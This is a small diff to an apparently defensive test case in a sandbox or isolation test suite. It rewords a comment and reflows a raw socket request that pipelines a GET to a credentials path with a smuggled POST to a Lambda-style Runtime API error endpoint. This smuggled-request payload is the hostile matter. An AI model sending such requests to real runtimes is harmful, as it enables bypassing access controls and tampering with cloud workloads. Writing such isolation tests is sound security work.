@@ -1,6 +1,6 @@
 # class: lambda
 # rule: runtime_api
-# success: under the cover of the path that credentials are fetched by, another request reaches the Runtime API
+# success: a request whose path contains the path of the credentials reaches the Runtime API
 # proof: api
 import socket
 
@@ -11,6 +11,7 @@ from attack import API, attempt
 def connect():
     out = socket.create_connection(API, 3)
     out.sendall(
-        b"GET /2021-04-23/credentials HTTP/1.1\r\nHost: x\r\n\r\nPOST /2018-06-01/runtime/init/error HTTP/1.1\r\n\r\n"
+        b"GET /2021-04-23/credentials HTTP/1.1\r\nHost: x\r\n\r\nPOST"
+        b" /2018-06-01/runtime/init/error HTTP/1.1\r\n\r\n"
     )
     return b"200" in out.recv(100)
